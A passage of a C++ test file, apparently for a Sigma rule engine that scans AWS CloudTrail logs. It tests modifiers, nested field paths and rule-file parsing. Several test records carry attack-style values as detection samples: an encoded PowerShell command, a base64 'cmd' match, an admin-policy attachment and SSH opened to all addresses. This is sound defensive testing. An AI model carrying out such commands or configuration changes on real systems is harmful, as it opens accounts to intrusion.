  EXPECT_EQ(Matches(rule, Rec("\"requestParameters\":{\"commands\":\"powershell \u2015enc AAA\"}")),
            kT);
  EXPECT_EQ(Matches(rule, Rec(R"("requestParameters":{"commands":"powershell enc AAA"})")),
            kNone);
}

TEST(SigmaModifiers, Utf16ModifiersFailTheirRuleOnly) {
  for (const char* modifier : {"utf16le", "wide", "utf16", "utf16be"}) {
    SCOPED_TRACE(modifier);
    std::string yaml = RuleYaml("Wide", std::string("  sel:\n    userAgent|") + modifier +
                                            "|base64offset|contains: cmd\n  condition: sel") +
                       "---\n" + Sel("    eventName: X");
    std::vector<Rule> rules;
    auto outcomes = ParseRules(yaml, "t.yml", {}, &rules);
    ASSERT_EQ(outcomes.size(), 2u);
    EXPECT_EQ(outcomes[0].kind, LoadOutcome::Kind::kError);
    EXPECT_NE(outcomes[0].message.find(std::string("'") + modifier + "'"), std::string::npos)
        << outcomes[0].message;
    EXPECT_EQ(outcomes[1].kind, LoadOutcome::Kind::kLoaded);
    ASSERT_EQ(rules.size(), 1u);
    EXPECT_EQ(rules[0].title, "T");
  }
}

TEST(SigmaModifiers, UnknownModifierIsError) {
  std::vector<Rule> rules;
  auto outcomes = ParseRules(Sel("    eventName|containz: X"), "t.yml", {}, &rules);
  ASSERT_EQ(outcomes.size(), 1u);
  EXPECT_EQ(outcomes[0].kind, LoadOutcome::Kind::kError);
  EXPECT_NE(outcomes[0].message.find("unknown modifier 'containz'"), std::string::npos)
      << outcomes[0].message;
  EXPECT_TRUE(rules.empty());
}

// --- fieldref ---

TEST(SigmaModifiers, FieldrefComparesTwoFields) {
  const std::string rule = Sel("    userIdentity.userName|fieldref: requestParameters.userName");
  EXPECT_EQ(Matches(rule, R"({"eventVersion":"1.08","userIdentity":{"type":"IAMUser","userName":"alice"},)"
                          R"("requestParameters":{"userName":"Alice"}})"),
            kT);
  EXPECT_EQ(Matches(rule, R"({"eventVersion":"1.08","userIdentity":{"type":"IAMUser","userName":"alice"},)"
                          R"("requestParameters":{"userName":"bob"}})"),
            kNone);
  EXPECT_EQ(Matches(rule, R"({"eventVersion":"1.08","userIdentity":{"type":"IAMUser","userName":"alice"}})"),
            kNone);
}

TEST(SigmaModifiers, FieldrefNeq) {
  const std::string rule = Sel("    userIdentity.userName|fieldref|neq: requestParameters.userName");
  EXPECT_EQ(Matches(rule, R"({"eventVersion":"1.08","userIdentity":{"type":"IAMUser","userName":"alice"},)"
                          R"("requestParameters":{"userName":"bob"}})"),
            kT);
  EXPECT_EQ(Matches(rule, R"({"eventVersion":"1.08","userIdentity":{"type":"IAMUser","userName":"alice"},)"
                          R"("requestParameters":{"userName":"alice"}})"),
            kNone);
}

// --- expand ---

TEST(SigmaModifiers, ExpandUsesPlaceholderValues) {
  LoadOptions options;
  options.placeholders["admin_ips"] = {"198.51.100.7", "203.0.113.*"};
  const std::string rule = Sel("    sourceIPAddress|expand: '%admin_ips%'");
  EXPECT_EQ(Matches(rule, Rec(R"("sourceIPAddress":"198.51.100.7")"), options), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("sourceIPAddress":"203.0.113.99")"), options), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("sourceIPAddress":"198.51.100.8")"), options), kNone);
}

TEST(SigmaModifiers, ExpandUnresolvedMatchesNothingWithWarning) {
  const std::string rule = Sel("    sourceIPAddress|expand: '%admin_ips%'");
  PipelineRun run = RunRules(rule, Rec(R"("sourceIPAddress":"%admin_ips%")"), {});
  ASSERT_EQ(run.outcomes.size(), 1u);
  EXPECT_EQ(run.outcomes[0].kind, LoadOutcome::Kind::kLoaded);
  EXPECT_NE(run.outcomes[0].message.find("%admin_ips%"), std::string::npos)
      << run.outcomes[0].message;
  EXPECT_TRUE(run.errors.empty());
  EXPECT_EQ(run.titles, kNone);
  // As a filter, the unresolved test removes nothing.
  const std::string filtered = RuleYaml("T", R"(  sel:
    eventName: X
  filter:
    sourceIPAddress|expand: '%admin_ips%'
  condition: sel and not filter)");
  EXPECT_EQ(RunRules(filtered, Rec(R"("eventName":"X","sourceIPAddress":"1.2.3.4")"), {}).titles,
            kT);
}

// --- time ---

TEST(SigmaModifiers, TimeHour) {
  const std::string rule = Sel("    eventTime|hour: 3");
  EXPECT_EQ(Matches(rule, Rec(R"("eventTime":"2024-01-15T03:22:10Z")")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("eventTime":"2024-01-15T13:22:10Z")")), kNone);
}

TEST(SigmaModifiers, TimeHourRange) {
  const std::string rule = Sel("    eventTime|hour|lt: 6");
  EXPECT_EQ(Matches(rule, Rec(R"("eventTime":"2024-01-15T05:59:59Z")")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("eventTime":"2024-01-15T06:00:00Z")")), kNone);
}

TEST(SigmaModifiers, TimeMinuteDayMonthYear) {
  const std::string rule = Sel("    eventTime|minute: 22\n    eventTime|day: 15\n"
                               "    eventTime|month: 1\n    eventTime|year: 2024");
  // Two tests on one field in one map: YAML keys differ by modifier.
  EXPECT_EQ(Matches(rule, Rec(R"("eventTime":"2024-01-15T03:22:10Z")")), kT);
  EXPECT_EQ(Matches(rule, Rec(R"("eventTime":"2024-02-15T03:22:10Z")")), kNone);
  EXPECT_EQ(Matches(rule, Rec(R"("eventTime":"2023-01-15T03:22:10Z")")), kNone);
  EXPECT_EQ(Matches(rule, Rec(R"("eventTime":"2024-01-16T03:22:10Z")")), kNone);
  EXPECT_EQ(Matches(rule, Rec(R"("eventTime":"2024-01-15T03:23:10Z")")), kNone);
}

TEST(SigmaModifiers, TimeWeekIsIsoWeek) {
  const std::string rule = Sel("    eventTime|week: 3");
  EXPECT_EQ(Matches(rule, Rec(R"("eventTime":"2024-01-15T00:00:00Z")")), kT);  // Monday
  EXPECT_EQ(Matches(rule, Rec(R"("eventTime":"2024-01-14T23:59:59Z")")), kNone);
  const std::string last = Sel("    eventTime|week: 53");
  EXPECT_EQ(Matches(last, Rec(R"("eventTime":"2021-01-01T12:00:00Z")")), kT);  // 2020-W53
}

TEST(SigmaModifiers, TimeOnNonTimestampDoesNotMatch) {
  const std::string rule = Sel("    userAgent|hour: 3");
  EXPECT_EQ(Matches(rule, Rec(R"("userAgent":"3")")), kNone);
}

TEST(SigmaModifiers, TimeAcceptsFractionalSeconds) {
  EXPECT_EQ(Matches(Sel("    eventTime|hour: 3"), Rec(R"("eventTime":"2024-01-15T03:22:10.123Z")")),
            kT);
}

TEST(SigmaModifiers, ExistsOnArrays) {
  EXPECT_EQ(Matches(Sel("    resources|exists: true"), Rec(R"("resources":[])")), kT);
  EXPECT_EQ(Matches(Sel("    resources.ARN|exists: true"), Rec(R"("resources":[])")), kNone);
  EXPECT_EQ(Matches(Sel("    resources.ARN|exists: true"), Rec(R"("resources":[{"ARN":"a"}])")),
            kT);
}

// --- paths and arrays ---

TEST(SigmaFields, DottedPathIntoNestedObjects) {
  const std::string rule = Sel(
      "    requestParameters.policyArn: arn:aws:iam::aws:policy/AdministratorAccess\n"
      "    userIdentity.sessionContext.sessionIssuer.userName: deploy");
  const std::string hit = R"({"eventVersion":"1.08","eventName":"AttachUserPolicy",
    "userIdentity":{"type":"AssumedRole","sessionContext":{"sessionIssuer":
      {"type":"Role","userName":"deploy"},"attributes":{"mfaAuthenticated":"false"}}},
    "requestParameters":{"userName":"bob","policyArn":"arn:aws:iam::aws:policy/AdministratorAccess"}})";
  const std::string miss = R"({"eventVersion":"1.08","eventName":"AttachUserPolicy",
    "userIdentity":{"type":"AssumedRole","sessionContext":{"sessionIssuer":
      {"type":"Role","userName":"other"}}},
    "requestParameters":{"userName":"bob","policyArn":"arn:aws:iam::aws:policy/AdministratorAccess"}})";
  EXPECT_EQ(Matches(rule, hit), kT);
  EXPECT_EQ(Matches(rule, miss), kNone);
}

TEST(SigmaFields, ValueInArrayMatchesIfAnyElementMatches) {
  const std::string rule = Sel("    resources.ARN|endswith: ':trail/prod'");
  EXPECT_EQ(Matches(rule, Rec(R"("resources":[{"ARN":"arn:aws:s3:::b","type":"AWS::S3::Bucket"},)"
                              R"({"ARN":"arn:aws:cloudtrail:us-east-1:1:trail/prod"}])")),
            kT);
  EXPECT_EQ(Matches(rule, Rec(R"("resources":[{"ARN":"arn:aws:s3:::b"},)"
                              R"({"ARN":"arn:aws:cloudtrail:us-east-1:1:trail/dev"}])")),
            kNone);
  EXPECT_EQ(Matches(rule, Rec(R"("resources":[])")), kNone);
}

// Shaped like CloudTrail's AuthorizeSecurityGroupIngress record.
std::string IngressRecord(std::string_view second_cidr) {
  return std::string(R"({"eventVersion":"1.08",
    "userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/ops","userName":"ops"},
    "eventTime":"2024-03-02T10:11:12Z","eventSource":"ec2.amazonaws.com",
    "eventName":"AuthorizeSecurityGroupIngress","awsRegion":"us-east-1",
    "sourceIPAddress":"198.51.100.20","userAgent":"aws-cli/2.15.0",
    "requestParameters":{"groupId":"sg-0123456789abcdef0","ipPermissions":{"items":[
      {"ipProtocol":"tcp","fromPort":443,"toPort":443,"groups":{},
       "ipRanges":{"items":[{"cidrIp":"10.1.0.0/16"}]},"ipv6Ranges":{},"prefixListIds":{}},
      {"ipProtocol":"tcp","fromPort":22,"toPort":22,"groups":{},
       "ipRanges":{"items":[{"cidrIp":"10.2.0.0/16"},{"cidrIp":")") +
         std::string(second_cidr) + R"("}]},"ipv6Ranges":{},"prefixListIds":{}}]}},
    "responseElements":{"requestId":"r","_return":true},
    "requestID":"r","eventID":"e","readOnly":false,"eventType":"AwsApiCall",
    "recipientAccountId":"111122223333"})";
}

TEST(SigmaFields, NestedArraysInSecurityGroupIngress) {
  const std::string rule = Sel(
      "    eventName: AuthorizeSecurityGroupIngress\n"
      "    requestParameters.ipPermissions.items.ipRanges.items.cidrIp: 0.0.0.0/0\n"
      "    requestParameters.ipPermissions.items.fromPort: 22");
  EXPECT_EQ(Matches(rule, IngressRecord("0.0.0.0/0")), kT);
  EXPECT_EQ(Matches(rule, IngressRecord("10.3.0.0/16")), kNone);
}

TEST(SigmaFields, FieldRequestedWholeAndBySubfield) {
  const std::string rules = RuleYaml("Whole", R"(  sel:
    requestParameters|contains: AdministratorAccess
  condition: sel)") + "---\n" + RuleYaml("Sub", R"(  sel:
    requestParameters.policyArn|endswith: /AdministratorAccess
  condition: sel)");
  const std::string hit = Rec(
      R"("eventName":"AttachRolePolicy","requestParameters":{"roleName":"r",)"
      R"("policyArn":"arn:aws:iam::aws:policy/AdministratorAccess"})");
  EXPECT_EQ(Matches(rules, hit), (Titles{"Whole", "Sub"}));
  const std::string miss = Rec(
      R"("eventName":"AttachRolePolicy","requestParameters":{"roleName":"r",)"
      R"("policyArn":"arn:aws:iam::aws:policy/ReadOnlyAccess"})");
  EXPECT_EQ(Matches(rules, miss), kNone);
  // Only the whole object mentions it.
  const std::string whole_only = Rec(
      R"("eventName":"AttachRolePolicy","requestParameters":{"roleName":"AdministratorAccess",)"
      R"("policyArn":"arn:aws:iam::aws:policy/ReadOnlyAccess"})");
  EXPECT_EQ(Matches(rules, whole_only), Titles{"Whole"});
}

// --- rule-level parsing ---

TEST(SigmaLoader, LegacyCountAggregationParses) {
  std::vector<Rule> rules;
  auto outcomes = ParseRules(RuleYaml("Agg", R"(  selection:
    eventName: ConsoleLogin
  timeframe: 10m
  condition: selection | count() by sourceIPAddress > 5)"),
                             "t.yml", {}, &rules);
  ASSERT_EQ(outcomes.size(), 1u);
  ASSERT_EQ(outcomes[0].kind, LoadOutcome::Kind::kLoaded) << outcomes[0].message;
  ASSERT_EQ(rules.size(), 1u);
  ASSERT_TRUE(rules[0].aggregation.has_value());
  const Aggregation& agg = *rules[0].aggregation;
  EXPECT_EQ(agg.kind, Aggregation::Kind::kCount);
  EXPECT_EQ(agg.count_field, "");
  EXPECT_EQ(agg.group_by, "sourceIPAddress");
  EXPECT_EQ(agg.cmp, Aggregation::Cmp::kGt);
  EXPECT_EQ(agg.threshold, 5);
  EXPECT_EQ(rules[0].timeframe_us, 600LL * 1000000);
  EXPECT_EQ(rules[0].condition.kind, Condition::Kind::kRef);
}

TEST(SigmaLoader, LegacyNearAggregationParses) {
  std::vector<Rule> rules;
  auto outcomes = ParseRules(RuleYaml("Near", R"(  selection1:
    eventName: A
  selection2:
    eventName: B
  timeframe: 5m
  condition: selection1 | near selection2)"),
                             "t.yml", {}, &rules);
  ASSERT_EQ(outcomes[0].kind, LoadOutcome::Kind::kLoaded) << outcomes[0].message;
  ASSERT_TRUE(rules[0].aggregation.has_value());
  EXPECT_EQ(rules[0].aggregation->kind, Aggregation::Kind::kNear);
  EXPECT_EQ(rules[0].aggregation->near.kind, Condition::Kind::kRef);
  EXPECT_EQ(rules[0].aggregation->near.ref, 1u);
}

TEST(SigmaLoader, OtherLogsourceIsReported) {
  std::vector<Rule> rules;
  auto outcomes = ParseRules(R"(title: Windows
logsource:
  product: windows
  service: security
detection:
  sel:
    EventID: 4624
  condition: sel
)",
                             "t.yml", {}, &rules);
  ASSERT_EQ(outcomes.size(), 1u);
  EXPECT_EQ(outcomes[0].kind, LoadOutcome::Kind::kOtherLogsource);
  EXPECT_NE(outcomes[0].message.find("windows"), std::string::npos);
  EXPECT_TRUE(rules.empty());
}

TEST(SigmaLoader, CorrelationDocumentIsReported) {
  std::vector<Rule> rules;
  auto outcomes = ParseRules(Sel("    eventName: ConsoleLogin") + R"(---
title: Many logins
correlation:
  type: event_count
  rules:
    - T
  group-by:
    - sourceIPAddress
  timespan: 10m
  condition:
    gte: 10
)",
                             "t.yml", {}, &rules);
  ASSERT_EQ(outcomes.size(), 2u);
  EXPECT_EQ(outcomes[0].kind, LoadOutcome::Kind::kLoaded);
  EXPECT_EQ(outcomes[1].kind, LoadOutcome::Kind::kCorrelation);
  EXPECT_EQ(rules.size(), 1u);
}

TEST(SigmaLoader, InvalidYamlIsError) {
  std::vector<Rule> rules;
  auto outcomes = ParseRules("title: [unclosed\n", "t.yml", {}, &rules);
  ASSERT_EQ(outcomes.size(), 1u);
  EXPECT_EQ(outcomes[0].kind, LoadOutcome::Kind::kError);
  EXPECT_NE(outcomes[0].message.find("invalid YAML"), std::string::npos);
}

// yaml-cpp 0.7 loops forever on these (found by fuzz_rule_loader): they must
// come back as errors, promptly.
TEST(SigmaLoader, ControlCharactersAreErrorNotHang) {
  std::vector<Rule> rules;
  auto outcomes = ParseRules(std::string_view("\0,", 2), "t.yml", {}, &rules);
  ASSERT_EQ(outcomes.size(), 1u);
  EXPECT_EQ(outcomes[0].kind, LoadOutcome::Kind::kError);
  EXPECT_NE(outcomes[0].message.find("invalid YAML"), std::string::npos);
}

TEST(SigmaLoader, DocumentStartingWithCommaIsErrorNotHang) {
  for (const char* text : {",", " ,", ",b", "\n,", "# c\n,", "---\n,", "--- ,",
                           "title: x\n---\n,", "%YAML 1.2\n---\n,", "!,", "! ,", "&a ,",
                           "&a !t ,", "!!str ,", "!,,,,,,,,", "a: 1\n...\n,", ":\n%\n,", "'',", "'','", "&l:,"}) {
    std::vector<Rule> rules;
    auto outcomes = ParseRules(text, "t.yml", {}, &rules);
    ASSERT_EQ(outcomes.size(), 1u) << text;
    EXPECT_EQ(outcomes[0].kind, LoadOutcome::Kind::kError) << text;
    EXPECT_NE(outcomes[0].message.find("invalid YAML at line"), std::string::npos)
        << text << ": " << outcomes[0].message;
  }
  std::vector<Rule> rules;
  auto ok = ParseRules("title: 'a, b'\nlogsource: {product: aws, service: cloudtrail}\n"
                       "detection:\n  sel:\n    eventName: [a, b]\n  condition: sel\n",
                       "t.yml", {}, &rules);
  EXPECT_EQ(rules.size(), 1u);
}

}  // namespace
}  // namespace cirt::detect::sigma
